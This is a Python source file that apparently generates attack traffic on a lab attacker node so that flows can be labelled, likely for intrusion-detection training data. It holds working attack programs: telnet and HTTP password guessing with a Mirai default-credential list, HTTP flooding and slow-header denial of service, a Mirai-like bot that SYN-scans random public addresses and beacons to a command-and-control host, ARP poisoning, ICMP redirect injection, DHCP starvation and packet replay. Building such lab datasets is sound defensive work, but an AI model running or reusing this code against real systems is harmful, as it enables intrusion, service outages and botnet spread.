"""Attack programs written for the lab, run on an attacker's node: one JSON job in, used ports out."""

import asyncio
import base64
import contextlib
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Coroutine
from random import Random
from typing import Any

from model_training.lab.behaviours import dns_query, exchange

PASSWORDS = [
    "root:xc3511", "root:vizxv", "root:admin", "admin:admin", "root:888888", "root:xmhdipc",
    "root:default", "root:juantech", "root:123456", "root:54321", "support:support", "root:",
    "admin:password", "root:root", "root:12345", "user:user", "admin:", "root:pass",
    "admin:admin1234", "root:1111", "admin:smcadmin", "admin:1111", "root:666666", "root:klv123",
    "Administrator:admin", "service:service", "guest:guest", "admin1:password", "root:jvbzd",
]  # fmt: skip


class Ports(list[int]):
    """The local ports that a job used, so that its flows can be labelled exactly."""

    async def connect(
        self, host: str, port: int
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection and note its local port."""
        async with asyncio.timeout(4):
            reader, writer = await asyncio.open_connection(host, port)
        self.append(writer.get_extra_info("sockname")[1])
        return reader, writer


async def guess_telnet(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Try passwords over telnet, three a connection, `workers` connections at a time."""
    await _in_parallel(job, lambda end: _telnet_worker(ports, rng, job, end))


async def _telnet_worker(ports: Ports, rng: Random, job: dict[str, Any], end: float) -> None:
    while time.monotonic() < end:
        with contextlib.suppress(OSError, TimeoutError, EOFError):
            reader, writer = await ports.connect(job["target"], job.get("port", 23))
            with contextlib.closing(writer):
                for _ in range(3):
                    await _telnet_try(reader, writer, rng.choice(PASSWORDS))
                    await asyncio.sleep(job.get("pause_s", 0.2) * rng.uniform(0.5, 1.5))


async def _telnet_try(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pair: str
) -> None:
    user, _, password = pair.partition(":")
    async with asyncio.timeout(6):
        await reader.readuntil(b"login: ")
        writer.write(user.encode() + b"\r\n")
        await reader.readuntil(b"assword: ")
        writer.write(password.encode() + b"\r\n")
        await reader.readuntil(b"\r\n")


async def guess_http(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Try passwords against a page that asks for HTTP basic authorization."""

    async def worker(end: float) -> None:
        while time.monotonic() < end:
            word = base64.b64encode(rng.choice(PASSWORDS).encode()).decode()
            await _request(ports, job, f"Authorization: Basic {word}\r\n", "/admin")
            await asyncio.sleep(job.get("pause_s", 0.1) * rng.uniform(0.5, 1.5))

    await _in_parallel(job, worker)


async def http_flood(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Ask for pages as fast as `workers` connections and `pause_s` allow."""

    async def worker(end: float) -> None:
        while time.monotonic() < end:
            await _request(ports, job, "", f"/?{rng.getrandbits(32):x}")
            await asyncio.sleep(job.get("pause_s", 0.0))

    await _in_parallel(job, worker)


async def _request(ports: Ports, job: dict[str, Any], extra: str, path: str) -> None:
    with contextlib.suppress(OSError, TimeoutError, EOFError):
        reader, writer = await ports.connect(job["target"], job.get("port", 80))
        with contextlib.closing(writer):
            head = f"GET {path} HTTP/1.1\r\nHost: {job['target']}\r\nUser-Agent: Mozilla/5.0\r\n"
            writer.write(f"{head}{extra}Connection: close\r\n\r\n".encode())
            async with asyncio.timeout(4):
                await reader.read()


async def slow_requests(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Hold many connections open with headers that never end."""

    async def worker(end: float) -> None:
        while time.monotonic() < end:
            with contextlib.suppress(OSError, TimeoutError, EOFError):
                _, writer = await ports.connect(job["target"], job.get("port", 80))
                with contextlib.closing(writer):
                    writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/4.0\r\n")
                    while time.monotonic() < end:
                        await asyncio.sleep(job.get("pause_s", 2.0) * rng.uniform(0.8, 1.2))
                        writer.write(f"X-a: {rng.randint(1, 5000)}\r\n".encode())
                        await writer.drain()

    await _in_parallel(job, worker)


async def bot(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Live like a Mirai bot: knock on telnet everywhere, log in where it opens, report to C2."""
    end = time.monotonic() + job["seconds"]
    async with asyncio.TaskGroup() as tasks:
        for work in (_knock, _try_neighbours, _beacon):
            tasks.create_task(work(ports, rng, job, end), name=work.__name__)


async def _knock(_ports: Ports, rng: Random, job: dict[str, Any], end: float) -> None:
    """Send bare SYNs whose sequence number is the target's address, as Mirai does."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        raw.setblocking(False)  # noqa: FBT003  (the standard library's signature)
        src_port = rng.randint(1025, 65_000)
        while time.monotonic() < end and job.get("knocks_per_second", 0):
            near = rng.random() < job.get("near_share", 0.3)
            target = _neighbour(rng, job["subnet"]) if near else _anywhere(rng)
            port = 23 if rng.random() < 0.9 else 2323  # noqa: PLR2004
            with contextlib.suppress(OSError):
                raw.sendto(_syn(job["own_ip"], target, src_port, port, rng), (target, 0))
            await asyncio.sleep(rng.expovariate(job["knocks_per_second"]))


def _neighbour(rng: Random, subnet: str) -> str:
    return f"{subnet}.{rng.randint(1, 254)}"


def _anywhere(rng: Random) -> str:
    first = rng.choice([5, 24, 41, 77, 89, 113, 151, 186, 198, 201])
    second = 18 if first == 198 else rng.randint(0, 255)  # noqa: PLR2004  (198.18/15 answers)
    return f"{first}.{second}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _syn(src_ip: str, dst_ip: str, src_port: int, dst_port: int, rng: Random) -> bytes:
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    window = rng.randint(1024, 65_535)
    sequence = int.from_bytes(dst, "big")
    head = struct.pack(">HHIIBBHHH", src_port, dst_port, sequence, 0, 0x50, 0x02, window, 0, 0)
    summed = sum(struct.unpack(">16H", src + dst + struct.pack(">BBH", 0, 6, 20) + head))
    checksum = summed % 0xFFFF ^ 0xFFFF
    return head[:16] + struct.pack(">H", checksum) + head[18:]


async def _try_neighbours(ports: Ports, rng: Random, job: dict[str, Any], end: float) -> None:
    while time.monotonic() < end and job.get("neighbours"):
        target = rng.choice(job["neighbours"])
        with contextlib.suppress(OSError, TimeoutError, EOFError):
            reader, writer = await ports.connect(target, 23)
            with contextlib.closing(writer):
                await _telnet_try(reader, writer, rng.choice(PASSWORDS))
        await asyncio.sleep(rng.uniform(0.5, 1.5))


async def _beacon(ports: Ports, rng: Random, job: dict[str, Any], end: float) -> None:
    period_s = job.get("beacon_s", 0.0)
    while time.monotonic() < end and period_s:
        with contextlib.suppress(OSError, TimeoutError, EOFError):
            await exchange(job["resolver"], 53, dns_query(rng, "cnc.bulletproof.example"))
            reader, writer = await ports.connect(job["control"], job.get("control_port", 6667))
            with contextlib.closing(writer):
                writer.write(b"\x00\x00\x00\x01" + bytes([4]) + b"mips")
                await _heartbeats(reader, writer, rng, job, end)
        await asyncio.sleep(min(period_s, 2.0))


async def _heartbeats(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    rng: Random,
    job: dict[str, Any],
    end: float,
) -> None:
    beats = 0
    while time.monotonic() < end and (not job.get("reconnect") or beats < 1):
        beats += 1
        writer.write(b"\x00\x00")
        async with asyncio.timeout(4):
            await reader.read(512)
        await asyncio.sleep(job["beacon_s"] * rng.uniform(0.85, 1.15))


async def resend_tcp(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Open new connections and send recorded client bytes again, `times` times."""
    for _ in range(job["times"]):
        with contextlib.suppress(OSError, TimeoutError, EOFError):
            reader, writer = await ports.connect(job["target"], job["port"])
            with contextlib.closing(writer):
                for part in job["parts"]:
                    writer.write(bytes.fromhex(part))
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.3):
                            await reader.read(4096)
        await asyncio.sleep(job.get("pause_s", 1.0) * rng.uniform(0.7, 1.3))


async def resend_udp(ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Send a recorded datagram again, `times` times, from fresh ports or one."""
    loop = asyncio.get_running_loop()
    for _ in range(job["times"]):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.setblocking(False)  # noqa: FBT003  (the standard library's signature)
            udp.connect((job["target"], job["port"]))
            ports.append(udp.getsockname()[1])
            for part in job["parts"]:
                udp.send(bytes.fromhex(part))
                with contextlib.suppress(TimeoutError, OSError):
                    async with asyncio.timeout(0.3):
                        await loop.sock_recv(udp, 2048)
        await asyncio.sleep(job.get("pause_s", 1.0) * rng.uniform(0.7, 1.3))


async def _in_parallel(
    job: dict[str, Any], worker: Callable[[float], Coroutine[None, None, None]]
) -> None:
    end = time.monotonic() + job["seconds"]
    async with asyncio.TaskGroup() as tasks:
        for number in range(job.get("workers", 1)):
            tasks.create_task(worker(end), name=f"worker-{number}")


async def poison(_ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Tell `targets` ([mac, ip, claimed ip]) that the claimed address is ours, over and over."""
    end = time.monotonic() + job["seconds"]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        while time.monotonic() < end:
            for mac, ip, claimed_ip in job["targets"]:
                raw.send(_arp_claim(job, mac, ip, claimed_ip))
            await asyncio.sleep(job["period_s"] * rng.uniform(0.9, 1.1))


def _arp_claim(job: dict[str, Any], mac: str, ip: str, claimed_ip: str) -> bytes:
    own, target = (bytes.fromhex(value.replace(":", "")) for value in (job["own_mac"], mac))
    head = struct.pack(">HHBBH", 1, 0x0800, 6, 4, job.get("opcode", 2))
    body = head + own + socket.inet_aton(claimed_ip) + target + socket.inet_aton(ip)
    return (target + own + b"\x08\x06" + body).ljust(60, b"\0")


async def redirect(_ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Tell a host in its router's name that the way to an address leads through us."""
    end = time.monotonic() + job["seconds"]
    own, target = (bytes.fromhex(job[name].replace(":", "")) for name in ("own_mac", "mac"))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        while time.monotonic() < end:
            answer = struct.pack(">BBHHH", 0, 0, 0, rng.getrandbits(16), 1)  # Linux follows these
            quoted = _ipv4(job["ip"], job["far_ip"], 1, answer)
            body = struct.pack(">BBH4s", 5, 1, 0, socket.inet_aton(job["own_ip"])) + quoted
            body = body[:2] + struct.pack(">H", _checksum(body)) + body[4:]
            packet = _ipv4(job["router_ip"], job["ip"], 1, body)
            raw.send(target + own + b"\x08\x00" + packet)
            await asyncio.sleep(job["period_s"] * rng.uniform(0.9, 1.1))


async def starve(_ports: Ports, rng: Random, job: dict[str, Any]) -> None:
    """Ask for a lease in another name again and again."""
    end = time.monotonic() + job["seconds"]
    own = bytes.fromhex(job["own_mac"].replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        while time.monotonic() < end:
            made_up = bytes([0x02, *rng.randbytes(5)])
            head = struct.pack(">BBBBIHH16x", 1, 1, 6, 0, rng.getrandbits(32), 0, 0x8000)
            options = b"\x63\x82\x53\x63\x35\x01\x01\x37\x04\x01\x03\x06\x0f\xff"
            discover = head + made_up.ljust(16, b"\0") + bytes(192) + options
            datagram = struct.pack(">HHHH", 68, 67, 8 + len(discover), 0) + discover
            packet = _ipv4("0.0.0.0", "255.255.255.255", 17, datagram)  # noqa: S104  (no address yet)
            raw.send(b"\xff" * 6 + own + b"\x08\x00" + packet)
            await asyncio.sleep(rng.uniform(0.5, 1.5) / job["rate"])


def _ipv4(src_ip: str, dst_ip: str, protocol: int, body: bytes) -> bytes:
    ends = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + ends
    return head[:10] + struct.pack(">H", _checksum(head)) + head[12:] + body


def _checksum(data: bytes) -> int:
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f">{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


PROGRAMS = {
    "bot": bot,
    "guess_http": guess_http,
    "guess_telnet": guess_telnet,
    "http_flood": http_flood,
    "poison": poison,
    "redirect": redirect,
    "resend_tcp": resend_tcp,
    "resend_udp": resend_udp,
    "slow_requests": slow_requests,
    "starve": starve,
}


async def main() -> None:
    """Do the job on standard input and print the local ports it used."""
    job = json.loads(sys.stdin.read())
    ports = Ports()
    await PROGRAMS[job["program"]](ports, Random(job["seed"]), job)  # noqa: S311
    print(json.dumps(sorted(set(ports))))  # noqa: T201


if __name__ == "__main__":
    asyncio.run(main())
